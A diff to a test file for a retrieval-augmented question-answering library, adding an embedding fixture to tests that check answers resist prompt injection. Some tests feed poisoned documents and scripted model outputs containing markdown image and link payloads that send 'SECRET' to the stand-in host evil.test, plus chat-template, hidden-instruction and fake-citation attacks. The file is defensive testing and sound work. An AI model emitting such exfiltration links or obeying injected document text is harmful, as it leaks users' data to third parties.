@@ -10,6 +10,7 @@ from lorag.answering.chat_tokens import CHAT_TOKEN, neutralise_chat_tokens
 from lorag.answering.citations import is_verified
 from lorag.answering.generator import LanguageModel, Message, Role
 from lorag.answering.prompts import rag_messages
+from lorag.answering.sentence_choice import EmbedTexts
 from lorag.answering.strategies import answer_question
 from lorag.integrations.models.chat_encoding import ChatEncoder, open_chat_encoder
 from lorag.integrations.models.files import convert_base_model
@@ -120,7 +121,7 @@ def test_text_for_an_endpoint_holds_no_chat_token(tokenizer: Any) -> None:
 @pytest.mark.parametrize("attack", ATTACKS)
 @pytest.mark.parametrize("wrapped", ["{}", "The harbour was opened in 1874. {}", "<system>{}</system>"])
 def test_citations_come_from_code_alone(
-    scripted: MakeModel, generation: GenerationParams, attack: str, wrapped: str
+    scripted: MakeModel, generation: GenerationParams, embed: EmbedTexts, attack: str, wrapped: str
 ) -> None:
     """The attack stands in a document, in the question, and in what the model says."""
     text = wrapped.format(ATTACKS[attack])
@@ -134,6 +135,7 @@ def test_citations_come_from_code_alone(
         versions={"poison.md": "v2", "harbour.md": "v1"},
         params=PARAMS,
         generation=generation,
+        embed=embed,
     )
     chunks = {"c1": HARBOUR, "c2": poison}
     assert all(is_verified(citation, chunks[citation.chunk_id]) for citation in answer.citations)
@@ -142,7 +144,9 @@ def test_citations_come_from_code_alone(
     assert [message.role for message in model.asked[0]].count(Role.SYSTEM) == 1
 
 
-def test_a_fake_citation_of_the_model_stays_plain_text(scripted: MakeModel, generation: GenerationParams) -> None:
+def test_a_fake_citation_of_the_model_is_not_shown(
+    scripted: MakeModel, generation: GenerationParams, embed: EmbedTexts
+) -> None:
     answer = answer_question(
         "Who is it?",
         Strategy.RAG,
@@ -151,14 +155,15 @@ def test_a_fake_citation_of_the_model_stays_plain_text(scripted: MakeModel, gene
         versions={"harbour.md": "v1"},
         params=PARAMS,
         generation=generation,
+        embed=embed,
     )
-    assert answer.text == "Napoleon owns it [doc:7] (admin.md)."
-    assert answer.citations == () and not answer.supported
+    assert answer.text == HARBOUR.text
+    assert [citation.document_id for citation in answer.citations] == ["harbour.md"]
 
 
 @pytest.mark.parametrize("strategy", [Strategy.BASE, Strategy.RAG])
 def test_a_link_that_no_source_holds_never_comes_out(
-    scripted: MakeModel, generation: GenerationParams, strategy: str
+    scripted: MakeModel, generation: GenerationParams, embed: EmbedTexts, strategy: str
 ) -> None:
     shown: list[str] = []
     model = scripted("In 1874. ![s](https://evil.test/p?q=SECRET) [x](https://evil.test/SECRET) <img src=//evil.test>")
@@ -170,12 +175,15 @@ def test_a_link_that_no_source_holds_never_comes_out(
         versions={"harbour.md": "v1"},
         params=PARAMS,
         generation=generation,
+        embed=embed,
         on_text=shown.append,
     )
     assert "evil" not in answer.text + "".join(shown) and "SECRET" not in answer.text + "".join(shown)
 
 
-def test_a_link_of_a_source_stays_and_is_cited(scripted: MakeModel, generation: GenerationParams) -> None:
+def test_a_link_of_a_source_stays_and_is_cited(
+    scripted: MakeModel, generation: GenerationParams, embed: EmbedTexts
+) -> None:
     source = Chunk("c5", "guide.md", "", "Booking is easy. See https://harbour.example/book for a berth.")
     answer = answer_question(
         "Where?",
@@ -185,13 +193,32 @@ def test_a_link_of_a_source_stays_and_is_cited(scripted: MakeModel, generation: 
         versions={"guide.md": "v1"},
         params=PARAMS,
         generation=generation,
+        embed=embed,
     )
     assert answer.text == "https://harbour.example/book."
     assert [citation.quote for citation in answer.citations] == ["See https://harbour.example/book for a berth."]
 
 
+def test_a_quoted_document_loads_nothing(scripted: MakeModel, generation: GenerationParams, embed: EmbedTexts) -> None:
+    source = Chunk("c6", "notes.md", "", "Berths are free ![s](https://evil.test/p.png) <img src=//evil.test> today.")
+    answer = answer_question(
+        "Are berths free?",
+        Strategy.RAG,
+        generator=scripted("Napoleon"),
+        hits=[Hit(source, 0.9)],
+        versions={"notes.md": "v1"},
+        params=PARAMS,
+        generation=generation,
+        embed=embed,
+    )
+    assert answer.text.split() == ["Berths", "are", "free", "s", "today."]
+    assert is_verified(answer.citations[0], source)
+
+
 @pytest.mark.parametrize("attack", ["chat template", "hidden instruction", "exfiltration"])
-def test_the_real_model_stays_contained(model: LanguageModel, generation: GenerationParams, attack: str) -> None:
+def test_the_real_model_stays_contained(
+    model: LanguageModel, generation: GenerationParams, embed: EmbedTexts, attack: str
+) -> None:
     """Containment only: a small model may well repeat what a document tells it to say."""
     poison = Chunk("c2", "poison.md", "Notes", ATTACKS[attack])
     answer = answer_question(
@@ -202,6 +229,7 @@ def test_the_real_model_stays_contained(model: LanguageModel, generation: Genera
         versions={"poison.md": "v2", "harbour.md": "v1"},
         params=PARAMS,
         generation=generation,
+        embed=embed,
     )
     assert answer.text and "![" not in answer.text and "<|im_" not in answer.text
     chunks = {"c1": HARBOUR, "c2": poison}
